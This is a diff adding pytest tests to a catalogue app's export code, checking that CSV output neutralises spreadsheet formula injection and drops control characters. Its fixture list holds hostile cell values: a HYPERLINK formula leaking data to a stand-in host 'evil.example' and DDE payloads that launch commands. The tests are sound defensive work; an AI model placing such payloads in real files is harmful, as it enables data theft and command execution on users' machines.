@@ -5,6 +5,7 @@ from __future__ import annotations
 import csv
 import io
 import json
+import sqlite3
 from pathlib import Path
 
 import bibtexparser
@@ -13,6 +14,8 @@ import rispy
 
 from desktop_app.cli import main
 from desktop_app.core.db import Library
+from desktop_app.core.records import ResourceData
+from desktop_app.core.service import Catalogue
 
 from ..conftest import titles
 
@@ -90,3 +93,61 @@ def test_export_of_a_search_and_a_reading_list(
 def test_pdf_needs_a_file(capsys: pytest.CaptureFixture[str], linked: Path) -> None:
     assert main(["export", "--library", str(linked), "--format", "pdf", "-o", "-"]) == 1
     assert "output file" in capsys.readouterr().err
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def test_csv_cells_never_begin_like_a_formula(
+    capsys: pytest.CaptureFixture[str], seeded_path: Path
+) -> None:
+    """OWASP's CSV injection: a cell beginning with = + - @ tab or CR gets a leading quote."""
+    with Library.open(seeded_path) as lib:
+        cat = Catalogue(lib)
+        for n, formula in enumerate(FORMULAS):
+            cat.create(
+                ResourceData(
+                    title=f"{formula} {n}",
+                    summary=formula,
+                    topics=[f"{formula.strip()} topic {n}", "Grooming"],
+                    organisations=[f"{formula.strip()} org {n}"],
+                )
+            )
+    text = export(capsys, seeded_path, "csv")
+    rows = list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))
+    hostile = [r for r in rows if r["title"].startswith("'")]
+    assert len(hostile) == len(FORMULAS)
+    for row in rows:
+        for column, cell in row.items():
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
+    first = next(r for r in hostile if r["title"].endswith(" 0"))
+    assert first["title"] == "'" + FORMULAS[0] + " 0"
+    assert first["topics"] == "'" + FORMULAS[0] + " topic 0; Grooming"
+    # the other formats keep the text as it is
+    records = json.loads(export(capsys, seeded_path, "json"))
+    assert any(r["summary"] == FORMULAS[0] for r in records)
+    assert "Child Online Protection in India" in {r["title"] for r in rows}
+
+
+def test_csv_drops_control_characters(
+    capsys: pytest.CaptureFixture[str], seeded_path: Path
+) -> None:
+    with Library.open(seeded_path) as lib:
+        view = Catalogue(lib).create(ResourceData(title="Nul title", summary="bell ok"))
+    # stored by an older version, before control characters were stripped on the way in
+    with sqlite3.connect(seeded_path) as conn:
+        conn.execute(
+            "UPDATE resource SET title = ?, summary = ? WHERE id = ?",
+            ("Nul\x00 title", "bell\x07 ok\nline", view.id),
+        )
+    text = export(capsys, seeded_path, "csv")
+    assert "\x00" not in text and "\x07" not in text
+    row = next(r for r in csv.DictReader(io.StringIO(text.lstrip("\ufeff"))) if "Nul" in r["title"])
+    assert row["title"] == "Nul title" and row["summary"] == "bell ok\nline"
